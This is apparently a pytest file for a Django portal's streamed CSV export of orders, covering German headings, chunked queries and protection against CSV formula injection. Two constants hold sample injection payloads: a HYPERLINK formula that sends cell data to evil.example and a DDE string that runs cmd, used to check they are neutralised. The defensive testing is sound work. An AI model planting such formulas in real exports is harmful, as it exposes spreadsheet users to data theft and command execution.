"""The CSV export: the filtered list, streamed, German headings, Excel-friendly."""

from __future__ import annotations

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.spreadsheet import FORMULA_STARTS
from tests.dashboard.conftest import order_in, populate

pytestmark = pytest.mark.django_db


def test_export_streams_the_filtered_orders_as_excel_csv(client, world) -> None:
    kelheim = order_in(world.kelheim, world.fuehrerschein, stage="vertrag")
    order_in(world.regen, world.fuehrerschein)
    client.force_login(world.coordinator)
    response = client.get(reverse("dashboard:order_export"), {"district": world.kelheim.pk})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = response.getvalue().decode("utf-8")  # joins the streamed body
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    assert rows[0][:3] == ["Bestellnummer", "Behörde", "Kennung der Behörde"]
    assert "Stufe" in rows[0] and "Status" in rows[0]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Bestellnummer"] == kelheim.number
    assert row["Leistung"] == "Führerschein"
    assert row["Stufe"] == "Vertrag"
    assert row["Status"] == "Wartet auf Mitwirkung"
    assert row["Bundesland"] == "Bayern"


def test_export_reads_in_chunks_with_constant_queries(
    client, world, django_assert_max_num_queries, monkeypatch
) -> None:
    populate(world, 30)
    monkeypatch.setattr("dashboard.export.ROWS_PER_CHUNK", 7)
    client.force_login(world.coordinator)
    # The session's first request reads the user and their states, once per version of them.
    client.get(reverse("start"))
    with django_assert_max_num_queries(8):
        response = client.get(reverse("dashboard:order_export"))
        chunks = list(response.streaming_content)
    # The header, then 30 rows in chunks of at most 7: nothing is built up in memory.
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 7, 7, 7, 7, 2]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"


def test_contact_name_formula_is_neutralised_in_coordinator_csv(client, world) -> None:
    """Issue 13, finding 3: a formula typed as a contact name reached the CSV unchanged."""
    first = order_in(world.kelheim, world.fuehrerschein)
    second = order_in(world.regen, world.fuehrerschein)
    type(first).objects.filter(pk=first.pk).update(contact_name=HYPERLINK)
    type(second).objects.filter(pk=second.pk).update(contact_name=DDE)
    client.force_login(world.coordinator)
    response = client.get(reverse("dashboard:order_export"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    names = {row[0]: row[rows[0].index("Ansprechperson")] for row in rows[1:]}
    assert names[first.number] == "'" + HYPERLINK
    assert names[second.number] == "'" + DDE


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# No lone surrogates: they are not text a request can carry (UTF-8 cannot encode them) and
# PostgreSQL refuses them, so an example with one failed before the export was reached.
@given(
    name=st.text(
        alphabet=st.characters(codec="utf-8", blacklist_characters="\x00"),
        max_size=150,
    )
)
def test_no_contact_name_becomes_a_formula_in_the_csv(world, name: str) -> None:
    from dashboard.export import csv_lines
    from orders.models import Order

    order = Order.objects.first() or order_in(world.kelheim, world.fuehrerschein)
    Order.objects.filter(pk=order.pk).update(contact_name=name)
    body = "".join(csv_lines(Order.objects.filter(pk=order.pk)))
    header, row = list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))
    cell = row[header.index("Ansprechperson")]
    assert cell == ("'" + name if name.startswith(FORMULA_STARTS) else name)
    assert row[header.index("Bestellnummer")] == order.number
